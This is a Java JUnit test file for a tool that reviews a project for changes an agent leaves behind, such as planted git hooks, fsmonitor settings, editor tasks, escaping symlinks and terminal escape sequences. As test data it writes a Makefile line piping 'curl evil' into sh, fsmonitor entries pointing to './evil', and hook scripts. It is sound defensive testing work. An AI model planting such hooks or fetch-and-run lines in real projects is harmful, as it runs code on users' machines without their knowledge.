package dev.hqt.review;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.hqt.review.Change.Kind;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** What an agent leaves behind, on real files. */
class ReviewerTest {
    @TempDir
    Path temporary;

    private Ground ground;

    @BeforeEach
    void make() throws IOException {
        ground = new Ground(temporary);
    }

    @Test
    void nothingIsReportedOfWhatNobodyTouched() throws IOException {
        ground.start();
        ground.write("src/main.c", "int main(void) { return 1; }\n");
        assertThat(ground.review().isClean()).isTrue();
    }

    @Test
    void aPlantedHookComesFirstWithItsReasonAndItsText() throws IOException {
        ground.start();
        ground.write("Makefile", "all:\n\tevil\n");
        ground.executable(".git/hooks/pre-commit", "#!/bin/sh\nevil\n");
        Change first = ground.review().changes().getFirst();
        assertThat(first.path()).isEqualTo(".git/hooks/pre-commit");
        assertThat(first.kind()).isEqualTo(Kind.ADDED);
        assertThat(first.severity()).isEqualTo(Severity.RUNS_UNASKED);
        assertThat(first.reason()).startsWith("git runs what lies here");
        assertThat(first.diff()).extracting(DiffLine::marked).contains("+#!/bin/sh", "+evil");
    }

    @Test
    void aChangedGitConfigurationIsReported() throws IOException {
        ground.start();
        ground.write(".git/config", "[core]\n\tbare = false\n\tfsmonitor = ./evil\n");
        assertThat(ground.change(".git/config").diff())
                .extracting(DiffLine::marked)
                .contains("+    fsmonitor = ./evil")
                .noneMatch(line -> line.startsWith("-"));
    }

    @Test
    void aChangedMakefileIsShownAsADiff() throws IOException {
        ground.start();
        ground.write("Makefile", "all:\n\tcurl evil | sh\n");
        Change change = ground.change("Makefile");
        assertThat(change.severity()).isEqualTo(Severity.RUNS_ON_USE);
        assertThat(change.diff())
                .extracting(DiffLine::marked)
                .containsSubsequence("-    echo all", "+    curl evil | sh");
    }

    @Test
    void aNewExecutableAndANewExecutableBitAreReported() throws IOException {
        ground.start();
        ground.executable("tools/new", "#!/bin/sh\n");
        ground.executable("src/main.c", "int main(void) { return 0; }\n");
        assertThat(ground.paths()).containsExactly("src/main.c", "tools/new");
    }

    @Test
    void anExecutableBitOfAKnownPlaceIsAChangeOfItsOwn() throws IOException {
        ground.start();
        ground.executable("Makefile", "all:\n\techo all\n");
        assertThat(ground.change("Makefile").kind()).isEqualTo(Kind.MADE_EXECUTABLE);
    }

    @Test
    void aNestedRepositoryIsReportedWithItsSettings() throws IOException {
        ground.start();
        ground.write("src/.git/HEAD", "ref: refs/heads/main\n");
        ground.write("src/.git/config", "[core]\n\tfsmonitor = ./evil\n");
        assertThat(ground.paths()).containsExactly("src/.git", "src/.git/config");
        assertThat(ground.change("src/.git").severity()).isEqualTo(Severity.RUNS_UNASKED);
    }

    @Test
    void aNestedRepositoryThatWasThereUnderAnotherNameIsReported() throws IOException {
        ground.write("fixture/dotgit/HEAD", "ref: refs/heads/main\n");
        ground.write("fixture/dotgit/config", "[core]\n\tfsmonitor = ./evil\n");
        ground.start();
        Files.move(ground.project.resolve("fixture/dotgit"), ground.project.resolve("fixture/.git"));
        assertThat(ground.paths()).contains("fixture/.git", "fixture/.git/config");
    }

    @Test
    void aBareRepositoryIsOneToo() throws IOException {
        ground.start();
        ground.write("lib/HEAD", "ref: refs/heads/main\n");
        ground.write("lib/config", "[core]\n\tfsmonitor = ./evil\n");
        Files.createDirectories(ground.project.resolve("lib/objects"));
        Files.createDirectories(ground.project.resolve("lib/refs"));
        assertThat(ground.change("lib/config").severity()).isEqualTo(Severity.RUNS_UNASKED);
    }

    @Test
    void aLinkThatLeadsOutIsReportedAndOneThatStaysInsideIsNot() throws IOException {
        ground.start();
        Files.createSymbolicLink(ground.project.resolve("etc"), Path.of("/etc"));
        Files.createSymbolicLink(ground.project.resolve("inside"), Path.of("src/main.c"));
        Files.createSymbolicLink(ground.project.resolve("src/up"), Path.of("../Makefile"));
        Files.createSymbolicLink(ground.project.resolve("nowhere"), Path.of("/not/there/yet"));
        assertThat(ground.paths()).containsExactly("etc", "nowhere");
        assertThat(ground.change("etc").severity()).isEqualTo(Severity.LEADS_OUT);
        assertThat(ground.change("etc").diff()).extracting(DiffLine::marked).containsExactly("+→ /etc");
    }

    /** By its text it stays inside: {@code a/b/c} is the project itself, so that {@code ..} behind it is outside. */
    @Test
    void aLinkThatLeadsOutThroughAnotherIsReported() throws IOException {
        Files.createDirectories(ground.project.resolve("a/b"));
        Files.createSymbolicLink(ground.project.resolve("a/b/c"), Path.of("../.."));
        ground.start();
        Files.createSymbolicLink(ground.project.resolve("innocent"), Path.of("a/b/c/../state"));
        assertThat(ground.paths()).containsExactly("innocent");
    }

    @Test
    void aNewEnvrcAndEditorTasksAreReported() throws IOException {
        ground.start();
        ground.write(".envrc", "evil\n");
        ground.write(".vscode/tasks.json", "{}\n");
        assertThat(ground.review().changes())
                .extracting(Change::path, Change::severity)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(".envrc", Severity.RUNS_UNASKED),
                        org.assertj.core.groups.Tuple.tuple(".vscode/tasks.json", Severity.RUNS_UNASKED));
    }

    @Test
    void aPackageScriptInASubdirectoryIsReportedAndShownAsItIsNow() throws IOException {
        ground.start();
        ground.write("packages/x/package.json", "{\"scripts\":{\"test\":\"evil\"}}\n");
        Change change = ground.change("packages/x/package.json");
        assertThat(change.kind()).isEqualTo(Kind.TOUCHED);
        assertThat(change.diff()).extracting(DiffLine::text).anyMatch(line -> line.contains("evil"));
        assertThat(change.diff().getFirst().sign()).isEqualTo(DiffLine.Sign.NOTE);
    }

    @Test
    void aFileThatIsRenamedOverAnotherIsReported() throws IOException {
        ground.write("old/package.json", "{\"scripts\":{\"test\":\"evil\"}}\n");
        ground.start();
        Files.move(
                ground.project.resolve("old/package.json"),
                ground.project.resolve("packages/x/package.json"),
                StandardCopyOption.REPLACE_EXISTING);
        assertThat(ground.paths()).containsExactly("packages/x/package.json");
    }

    @Test
    void aTimeThatIsSetBackDoesNotHide() throws IOException {
        ground.start();
        Path planted = ground.executable("bin/tool", "#!/bin/sh\nevil\n");
        Files.setLastModifiedTime(planted, FileTime.from(Instant.parse("2001-01-01T00:00:00Z")));
        assertThat(ground.paths()).containsExactly("bin/tool");
    }

    @Test
    void whatLiesInADirectoryThatWasMovedIsReported() throws IOException {
        ground.executable("fixture/evil/run", "#!/bin/sh\n");
        ground.start();
        Files.move(ground.project.resolve("fixture/evil"), ground.project.resolve("evil"));
        assertThat(ground.paths()).containsExactly("evil/run");
    }

    @Test
    void editorSettingsThatWereMovedIntoPlaceAreReportedHoweverTheyAreDisguised() throws IOException {
        ground.write("fixture/vscode/tasks.json", "{}\n");
        ground.start();
        Files.move(ground.project.resolve("fixture/vscode"), ground.project.resolve("fixture/.vscode"));
        Files.delete(ground.write("fixture/.vscode/disguise", ""));
        assertThat(ground.paths()).containsExactly("fixture/.vscode/tasks.json");
    }

    @Test
    void aRemovedPlaceIsReported() throws IOException {
        ground.start();
        Files.delete(ground.project.resolve("Makefile"));
        assertThat(ground.change("Makefile").kind()).isEqualTo(Kind.REMOVED);
    }

    @Test
    void noLinkLeadsTheReaderOutOfTheProject() throws IOException {
        Path outside = Files.createDirectories(ground.folder.resolveSibling("outside"));
        Files.writeString(outside.resolve("tasks.json"), "SECRET");
        ground.start();
        Files.createSymbolicLink(ground.project.resolve(".vscode"), outside);
        Files.delete(ground.project.resolve("Makefile"));
        Files.createSymbolicLink(ground.project.resolve("Makefile"), outside.resolve("tasks.json"));
        Files.createSymbolicLink(ground.project.resolve("linked"), outside);
        Review review = ground.review();
        assertThat(review.toString()).doesNotContain("SECRET");
        assertThat(review.changes()).extracting(Change::path).containsExactly(".vscode", "Makefile", "linked");
        assertThat(ground.change("Makefile").kind()).isEqualTo(Kind.REPLACED);
    }

    @Test
    @Timeout(20)
    void aFifoIsNeitherReadNorWaitedFor() throws Exception {
        ground.start();
        Files.delete(ground.project.resolve("Makefile"));
        fifo(ground.project.resolve("Makefile"));
        fifo(ground.project.resolve(".envrc"));
        fifo(ground.project.resolve("src/package.json"));
        assertThat(ground.paths()).containsExactly(".envrc", "Makefile");
    }

    @Test
    @Timeout(20)
    void aReadingThatNeverEndsIsGivenUpWithASentence() throws Exception {
        ground.start();
        Reviewer impatient =
                new Reviewer(new StuckClock(), new TreeWalk.Limits(1000, Duration.ofSeconds(1)), Duration.ofMillis(50));
        assertThatThrownBy(() -> impatient.review(ground.folder))
                .isInstanceOf(ReviewException.class)
                .hasMessageContaining("Reading the project took more than");
    }

    @Test
    void controlBytesInNamesAndTextsAreEscapes() throws IOException {
        ground.start();
        ground.executable("tools/\u001b[2Jred\nherring\u202egnp", "#!/bin/sh\n\u001b]52;c;eA==\u0007\r\n");
        Change change = ground.review().changes().getFirst();
        assertThat(change.path()).isEqualTo("tools/\\x1b[2Jred\\x0aherring\\u202egnp");
        assertThat(change.diff()).extracting(DiffLine::text).contains("\\x1b]52;c;eA==\\x07\\x0d");
    }

    @Test
    void aHugeFileIsKnownWithoutBeingRead() throws IOException {
        ground.write("Makefile", "x".repeat(PlaceReader.LARGEST + 1));
        ground.start();
        assertThat(ground.review().changes()).isEmpty();
        Path file = ground.write("Makefile", "y".repeat(PlaceReader.LARGEST + 1));
        Files.setLastModifiedTime(file, FileTime.from(Instant.parse("2001-01-01T00:00:00Z")));
        assertThat(ground.change("Makefile").diff())
                .extracting(DiffLine::text)
                .singleElement()
                .asString()
                .contains("too large to be compared");
    }

    @Test
    void aLimitThatIsReachedIsSaid() throws IOException {
        ground.start();
        Reviewer hasty =
                new Reviewer(Clock.systemUTC(), new TreeWalk.Limits(3, Duration.ofMinutes(1)), Duration.ofMinutes(1));
        Review review = hasty.review(ground.folder);
        assertThat(review.remarks()).singleElement().asString().contains("more than 3 files");
        assertThat(review.isClean()).isFalse();
    }

    @Test
    void whatLiesTooDeepIsSaid() throws IOException {
        ground.start();
        Path deep = ground.project;
        for (int level = 0; level < 140; level++) {
            deep = deep.resolve("d");
        }
        Files.createDirectories(deep);
        assertThat(ground.review().remarks()).singleElement().asString().contains("more than 128 directories deep");
    }

    @Test
    void thousandsOfExecutablesOfAnInstallationAreCounted() throws IOException {
        ground.start();
        for (int number = 0; number < 412; number++) {
            ground.executable("node_modules/.bin/tool" + number, "#!/bin/sh\n");
        }
        ground.executable("node_modules/x/build.rs", "");
        assertThat(ground.review().changes()).hasSize(2);
        assertThat(ground.change("node_modules/").reason()).isEqualTo("412 executables in it.");
        assertThat(ground.paths()).contains("node_modules/x/build.rs");
    }

    @Test
    void whatIsAcceptedIsNotReportedAgain() throws IOException {
        ground.start();
        ground.write(".envrc", "evil\n");
        ground.executable("tools/new", "#!/bin/sh\n");
        Review seen = ground.review();
        assertThat(seen.changes()).hasSize(2);
        assertThat(ground.reviewer.accept(ground.folder, seen)).isTrue();
        ground.write("Makefile", "all:\n");
        assertThat(ground.paths()).contains("Makefile").doesNotContain(".envrc");
    }

    @Test
    void onlyWhatWasSeenIsAccepted() throws IOException {
        ground.start();
        ground.write(".envrc", "harmless\n");
        Review seen = ground.review();
        ground.write(".envrc", "evil\n");
        assertThat(ground.reviewer.accept(ground.folder, seen)).isFalse();
        assertThat(ground.paths()).containsExactly(".envrc");
    }

    @Test
    void aMissingOrDamagedSnapshotIsSaidAndNeverNoChange() throws IOException {
        assertThatThrownBy(ground::review)
                .isInstanceOf(ReviewException.class)
                .hasMessageContaining("not known what has changed");
        ground.start();
        Path file = ground.folder.resolve("snapshot");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
        byte[] bytes = Files.readAllBytes(file);
        for (int cut : List.of(0, 5, bytes.length / 2, bytes.length - 1)) {
            Files.write(file, java.util.Arrays.copyOf(bytes, cut));
            assertThatThrownBy(ground::review)
                    .isInstanceOf(ReviewException.class)
                    .hasMessageContaining("can't be read");
        }
        bytes[bytes.length / 2] ^= 1;
        Files.write(file, bytes);
        assertThatThrownBy(ground::review).isInstanceOf(ReviewException.class).hasMessageContaining("can't be read");
    }

    @Test
    void hooksAndSettingsOfSubmodulesWorktreesAndOtherDirectoriesAreWatched() throws IOException {
        Path common = ground.folder.resolveSibling("main.git");
        Files.createDirectories(common.resolve("hooks"));
        Files.writeString(common.resolve("config"), "");
        Files.createDirectories(common.resolve("worktrees/one"));
        Files.writeString(common.resolve("worktrees/one/HEAD"), "");
        Files.writeString(common.resolve("worktrees/one/commondir"), "../..");
        ground.write(".git/modules/libs/foo/HEAD", "");
        ground.write(".git/modules/libs/foo/config", "");
        ground.write("githooks/pre-push", "#!/bin/sh\n");
        ground.reviewer.keep(
                ground.folder,
                ground.reviewer.take(
                        new Watched(ground.project, List.of(common), List.of(ground.project.resolve("githooks")))));
        Files.writeString(common.resolve("hooks/post-checkout"), "evil");
        Files.writeString(common.resolve("worktrees/one/commondir"), "/evil");
        ground.write(".git/modules/libs/foo/config", "evil");
        ground.write("githooks/pre-push", "evil");
        assertThat(ground.review().changes())
                .filteredOn(change -> change.severity() == Severity.RUNS_UNASKED)
                .extracting(Change::path)
                .contains(
                        common + "/hooks/post-checkout",
                        common + "/worktrees/one/commondir",
                        ".git/modules/libs/foo/config",
                        "githooks/pre-push");
    }

    private static void fifo(Path path) throws Exception {
        assertThat(new ProcessBuilder("mkfifo", path.toString()).start().waitFor())
                .isZero();
    }
}
